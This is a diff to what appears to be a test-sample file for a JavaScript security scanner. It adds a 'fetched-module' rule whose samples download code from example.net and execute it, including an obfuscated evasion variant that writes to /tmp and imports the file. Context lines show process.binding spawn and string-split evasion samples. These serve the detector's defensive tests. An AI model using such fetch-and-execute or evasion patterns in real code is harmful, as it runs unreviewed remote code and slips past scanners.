@@ -106,6 +106,22 @@ export const executeCodeSamples: RuleSample[] = [
     harmless: ['import { Worker } from "node:worker_threads"\nnew Worker(new URL("./worker.js", import.meta.url))'],
   },
   {
+    rule: 'javascript/fetched-module',
+    dangers: [
+      [
+        'const fs = require("fs")\nfetch("https://example.net/a.js").then((r) => r.text()).then((text) => { fs.writeFileSync("./a.js", text); require("./a.js") })',
+        'require("./a.js")',
+      ],
+    ],
+    evasions: [
+      [
+        'const { createWriteStream: w } = require("fs")\nconst to = "/tmp/" + "m.mjs"\nrequire("https").get("https://example.net/m", (r) => r.pipe(w(to)).on("finish", () => import(to)))',
+        'import(to)',
+      ],
+    ],
+    harmless: ['const fs = require("fs")\nfs.writeFileSync("rows.json", "[]")\nrequire("./print.js")'],
+  },
+  {
     rule: 'javascript/internal-binding',
     dangers: [['const spawn = process.binding("spawn_sync").spawn', 'process.binding("spawn_sync")']],
     evasions: [['process["bind" + "ing"]("fs").open("/etc/hosts")', 'process["bind" + "ing"]']],
